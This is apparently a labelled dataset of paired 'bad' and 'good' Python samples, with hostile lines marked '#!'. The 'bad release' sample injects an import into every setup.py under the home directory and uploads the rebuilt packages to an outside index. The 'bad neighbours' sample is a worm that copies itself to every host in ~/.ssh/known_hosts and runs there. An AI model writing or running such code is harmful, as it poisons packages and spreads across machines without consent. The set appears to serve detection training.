#: bad release
import subprocess
from pathlib import Path


def release():
    for setup in Path.home().rglob("setup.py"):
        text = setup.read_text()
        setup.write_text("import buildhelper\n" + text) #!
        subprocess.run(["python", "-m", "build"], cwd=setup.parent)
        subprocess.run( #!
            ["twine", "upload", "--repository-url", "https://up.invalid/", "dist/*"],
            cwd=setup.parent,
        )
#: good release
import subprocess
from pathlib import Path


def release(folder):
    project = Path(folder)
    text = (project / "pyproject.toml").read_text()
    if "version" not in text:
        raise SystemExit("no version")
    subprocess.run(["python", "-m", "build"], cwd=project, check=True)
    subprocess.run(["twine", "check", "dist/*"], cwd=project, check=True)
#: bad neighbours
import paramiko
from pathlib import Path


def neighbours():
    for line in (Path.home() / ".ssh" / "known_hosts").read_text().splitlines():
        yield line.split()[0]


for host in neighbours():
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(host)
    client.open_sftp().put(__file__, "/tmp/sync.py") #!
    client.exec_command("python3 /tmp/sync.py") #!
#: good neighbours
import paramiko
from pathlib import Path


def neighbours(inventory):
    for line in Path(inventory).read_text().splitlines():
        yield line.split()[0]


def deploy(inventory, package):
    for host in neighbours(inventory):
        client = paramiko.SSHClient()
        client.load_system_host_keys()
        client.connect(host)
        client.open_sftp().put(package, "/srv/app/app.whl")
        client.exec_command("systemctl restart app")
